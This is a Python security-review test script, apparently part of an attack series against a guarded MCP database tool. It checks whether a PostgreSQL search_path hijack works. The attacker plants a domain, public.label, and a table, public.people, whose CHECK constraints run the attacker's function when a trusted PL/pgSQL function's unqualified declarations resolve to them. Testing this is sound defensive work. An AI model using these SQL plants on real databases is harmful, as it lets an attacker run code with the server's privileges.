"""attack5 F4: a trusted PL/pgSQL function on its own path with the open schema public
(`SET search_path = pg_catalog, public, app`), every name in its SQL qualified (what
open_schema_body lets through), declares a variable of an unqualified type that lives in
`app` (`DECLARE v label;`, the DBA's domain app.label). PL/pgSQL resolves declared types on
the function's path when it compiles the body (first call in a session); the guard never
reads the declarations (refs.plpgsql_refs reads only expressions and statements). The
attacker plants `public.label`, a domain with a CHECK calling its own function, earlier on
that path: the variable takes the attacker's domain, the assignment runs the CHECK as the
server's role. Also `%TYPE` of an unqualified relation (`people.name%TYPE`, a public.people
planted before app.people).

Usage: PYTHONPATH=tests:security-review:security-review/attack5 uv run python \
    security-review/attack5/body_declare.py
Prints FINDING / held; exits 1 on a finding."""
from __future__ import annotations

import asyncio
import sys

from common5 import ATTACKER, DSN, READER, execute, pwned, reset_db, tool
from mcpclient import connect

DBA = """
CREATE DOMAIN app.label AS text;
CREATE FUNCTION app.shout(t text) RETURNS text STABLE LANGUAGE plpgsql
    SET search_path = pg_catalog, public, app AS $$
DECLARE v label;
BEGIN
    v := t;
    RETURN pg_catalog.upper(v);
END $$;
CREATE FUNCTION app.first_name() RETURNS text STABLE LANGUAGE plpgsql
    SET search_path = pg_catalog, public, app AS $$
DECLARE v people.name%TYPE;
BEGIN
    v := 'Alice';
    RETURN v;
END $$;
"""
PLANT = """
CREATE FUNCTION atk.chk(text) RETURNS boolean IMMUTABLE LANGUAGE sql AS 'SELECT atk.effect() IS NULL';
CREATE DOMAIN public.label AS text CHECK (atk.chk(VALUE));
CREATE DOMAIN atk.vc AS varchar(20) CHECK (atk.chk(VALUE));
CREATE TABLE public.people (id int, name atk.vc);
"""
CALLS = {
    "execute_query DECLARE v label": ("execute_query", {"sql": "SELECT app.shout('hi') AS s"}),
    "explain analyze DECLARE v label": (
        "explain_query", {"sql": "SELECT app.shout('hi') AS s", "analyze": True}),
    "execute_query people.name%TYPE": ("execute_query", {"sql": "SELECT app.first_name() AS s"}),
    "get_sample_rows where_clause": (
        "get_sample_rows",
        {"schema_name": "app", "table_name": "people", "where_clause": "app.shout('hi') <> ''"},
    ),
}


async def main() -> int:
    await reset_db()
    await execute(DSN, DBA)
    found = 0
    async with connect(READER) as c:
        for label, (name, args) in CALLS.items():
            ok, body = await tool(c, name, **args)
            print(f"clean {label}: ok={ok} {str(body)[:150]}")
    await execute(ATTACKER, PLANT)
    async with connect(READER) as c:  # a new session: PL/pgSQL compiles the body again
        for label, (name, args) in CALLS.items():
            ok, body = await tool(c, name, **args)
            tag = "FINDING" if pwned(body) else "held"
            found += tag == "FINDING"
            print(f"{tag}: {label}: ok={ok} {str(body)[:220]}")
    return 1 if found else 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
